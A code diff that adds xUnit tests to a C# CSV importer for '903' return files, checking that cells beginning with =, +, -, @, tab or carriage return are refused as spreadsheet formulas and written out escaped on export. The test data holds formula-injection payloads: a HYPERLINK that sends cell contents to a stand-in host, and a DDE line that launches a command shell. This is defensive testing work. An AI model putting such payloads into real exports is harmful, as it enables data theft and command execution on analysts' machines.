@@ -23,6 +23,58 @@ public sealed class FileTests
         Assert.Equal("header.csv", refused.File);
     }
 
+    /// <summary>
+    /// No 903 field starts with =, +, -, @, a tab or a carriage return, and a spreadsheet runs such a cell as a formula when an
+    /// analyst opens the export: the import refuses it, naming the file, the row and the field, so the export stays exact.
+    /// </summary>
+    [Theory]
+    [InlineData("=HYPERLINK(\"http://x.example/?\"&A1,\"click\")", "UPN")]
+    [InlineData("=1+cmd|' /C calc'!A0", "UPN")]
+    [InlineData("+1+1", "UPN")]
+    [InlineData("-2+3", "UPN")]
+    [InlineData("@SUM(A1:A9)", "UPN")]
+    [InlineData("\t=1+1", "UPN")]
+    [InlineData("\r=1+1", "UPN")]
+    public void A_cell_a_spreadsheet_would_run_as_a_formula_is_refused_naming_the_row_and_the_field(string cell, string field)
+    {
+        var quoted = '"' + cell.Replace("\"", "\"\"") + '"';
+        var text = "CHILD,SEX,DOB,ETHNIC,UPN,MOTHER,MC_DOB\r\nC0,1,01/01/2010,WBRI,A123456789012,,\r\nC1,1,01/01/2010,WBRI," + quoted + ",,\r\n";
+        var refused = Assert.Throws<NotA903FileException>(() => Read(Tables.Header, Encoding.UTF8.GetBytes(text)));
+        Assert.Equal("header.csv", refused.File);
+        Assert.Contains($"row 1 (line 3), field {field}", refused.Reason);
+        Assert.Contains("formula", refused.Reason);
+    }
+
+    [Fact]
+    public void A_formula_cell_in_a_table_kept_as_sent_is_refused_too()
+    {
+        var refused = Assert.Throws<NotA903FileException>(() =>
+            RowReader.RefuseFormulaCells("uasc.csv", ["CHILD", "SEX", "DUC"], ["C1", "1", "=1+1"], row: 4, line: 6));
+        Assert.Equal("uasc.csv", refused.File);
+        Assert.Contains("row 4 (line 6), field DUC", refused.Reason);
+    }
+
+    [Fact]
+    public void Ordinary_values_and_values_with_those_characters_inside_are_read()
+    {
+        var data = new ReturnData();
+        var text = "CHILD,SEX,DOB,ETHNIC,UPN,MOTHER,MC_DOB\r\nC-1,1,01/01/2010,WBRI,A1=2+3@4,,\r\n";
+        new RowReader().Read(Tables.Header, "header.csv", CsvFile.Open(new MemoryStream(Encoding.UTF8.GetBytes(text)), "header.csv"), data);
+        Assert.Equal("A1=2+3@4", Assert.Single(data.Header).Upn);
+    }
+
+    /// <summary>
+    /// The import refuses such cells, but a value can reach the return another way (a record entered through the API, a row
+    /// imported before the rule): the export then writes it as OWASP says, quoted behind a single quote, so it reads as text.
+    /// </summary>
+    [Fact]
+    public void The_export_writes_a_cell_that_would_run_as_a_formula_as_text()
+    {
+        var written = new StringWriter();
+        CsvFile.Write(written, ["C1", "=1+cmd|' /C calc'!A0", "-2", "@A1", "\t1", "ok", "S60 1"]);
+        Assert.Equal("C1,\"'=1+cmd|' /C calc'!A0\",\"'-2\",\"'@A1\",\"'\t1\",ok,S60 1\r\n", written.ToString());
+    }
+
     [Fact]
     public void Binary_content_is_refused()
     {
